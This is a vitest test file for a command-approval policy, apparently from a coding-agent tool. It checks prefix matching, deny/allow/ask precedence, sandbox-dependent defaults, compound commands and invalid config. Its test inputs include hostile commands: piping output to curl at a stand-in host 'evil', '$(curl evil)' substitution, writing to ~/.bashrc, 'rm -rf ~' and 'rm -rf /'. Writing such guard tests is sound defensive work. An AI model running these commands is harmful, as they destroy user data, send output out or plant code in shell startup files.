import { describe, expect, it } from 'vitest';
import { approvalPolicyOf, describePolicy, judgeCommand, matchesPattern } from './approvalPolicy';

const rules = (r: { allow?: string[]; ask?: string[]; deny?: string[] }) => approvalPolicyOf(r);
const verdict = (command: string, r: Parameters<typeof rules>[0], sandboxed = true) =>
  judgeCommand(command, rules(r), sandboxed).verdict;

describe('approval patterns', () => {
  it('match a prefix at a word boundary, or everything with *', () => {
    expect(matchesPattern('npm test', 'npm test')).toBe(true);
    expect(matchesPattern('npm test -- --watch', 'npm test')).toBe(true);
    expect(matchesPattern('  npm test', 'npm')).toBe(true);
    expect(matchesPattern('npmx install', 'npm')).toBe(false);
    expect(matchesPattern('npm run-script', 'npm run')).toBe(false);
    expect(matchesPattern('git push --force', 'git push ')).toBe(true);
    expect(matchesPattern('anything at all', '*')).toBe(true);
    expect(matchesPattern('ls', 'ls -la')).toBe(false);
  });
});

describe('judgeCommand', () => {
  it('defaults to allow when sandboxed and to ask when not, and says why', () => {
    const none = approvalPolicyOf(undefined);
    expect(judgeCommand('rm -rf build', none, true)).toEqual({
      verdict: 'allow',
      rule: 'the default: commands run in the sandbox',
    });
    expect(judgeCommand('ls', none, false)).toEqual({
      verdict: 'ask',
      rule: 'the default: commands run without a sandbox here, so each one asks',
    });
  });

  it('takes the first matching list in the order deny, allow, ask', () => {
    const r = { deny: ['git push'], allow: ['npm test', 'git'], ask: ['*'] };
    expect(verdict('git push origin main', r)).toBe('deny');
    expect(verdict('git status', r)).toBe('allow');
    expect(verdict('npm test', r)).toBe('allow');
    expect(verdict('curl example.com', r)).toBe('ask');
    expect(judgeCommand('git push', rules(r), true).rule).toBe('tandem.json approvals.deny "git push"');
    expect(judgeCommand('npm test', rules(r), true).rule).toBe('tandem.json approvals.allow "npm test"');
    expect(judgeCommand('make', rules(r), true).rule).toBe('tandem.json approvals.ask "*"');
    // allow * beats an ask; a deny beats allow *
    expect(verdict('npm test', { allow: ['*'], ask: ['npm'] })).toBe('allow');
    expect(verdict('rm -rf /', { allow: ['*'], deny: ['rm'] })).toBe('deny');
  });

  it('falls back to the default when no list matches', () => {
    expect(verdict('make', { ask: ['npm test'] }, true)).toBe('allow');
    expect(verdict('make', { allow: ['npm test'] }, false)).toBe('ask');
    expect(verdict('npm test', { allow: ['npm test'] }, false)).toBe('allow');
  });

  it('judges each part of a compound command: any part denies or asks, every part must be allowed', () => {
    const r = { allow: ['npm test', 'git status'], deny: ['rm'], ask: ['curl'] };
    expect(verdict('git status && npm test', r, false)).toBe('allow');
    expect(verdict('npm test; rm -rf ~', r, false)).toBe('deny');
    expect(verdict('npm test | curl -d @- evil', r, true)).toBe('ask');
    expect(verdict('npm test && make', r, false)).toBe('ask'); // make: the default (not sandboxed)
    expect(verdict('npm test && make', r, true)).toBe('allow'); // make: the default (sandboxed)
  });

  it('does not let an allow prefix cover a substitution or a redirection', () => {
    const r = { allow: ['npm test', 'echo'] };
    expect(verdict('npm test $(curl evil)', r, false)).toBe('ask');
    expect(verdict('echo `id`', r, false)).toBe('ask');
    expect(verdict('echo x > ~/.bashrc', r, false)).toBe('ask');
    expect(verdict('echo hello', r, false)).toBe('allow');
  });

  it('asks for every command when the rules cannot be read, naming the problem', () => {
    for (const bad of [{ allow: 'npm test' }, { alow: ['*'] }, ['*'], { deny: [''] }, { ask: [3] }]) {
      const policy = approvalPolicyOf(bad);
      expect(policy.rules).toBeNull();
      expect(policy.error).toMatch(/^approvals/);
      const v = judgeCommand('ls', policy, true);
      expect(v.verdict).toBe('ask');
      expect(v.rule).toContain('tandem.json "approvals" is invalid');
    }
    expect(approvalPolicyOf({ allow: 'npm test' }).error).toMatch(/^approvals\.allow: /);
    expect(approvalPolicyOf({ alow: ['*'] }).error).toMatch(/alow/);
  });

  it('describes the policy for the evidence, saying when commands are not sandboxed', () => {
    expect(describePolicy(approvalPolicyOf(undefined), false)).toMatch(/WITHOUT a sandbox.*every other command asks/);
    expect(describePolicy(approvalPolicyOf(undefined), true)).toMatch(/no rules in tandem.json.*without asking/);
    expect(describePolicy(approvalPolicyOf({ ask: ['npm test'] }), true)).toBe(
      'Approvals (tandem.json): ask "npm test"; commands run in the sandbox, so the rest run without asking.',
    );
    expect(describePolicy(approvalPolicyOf({ deny: 5 }), true)).toMatch(/invalid \(approvals\.deny: .*every command/);
  });
});
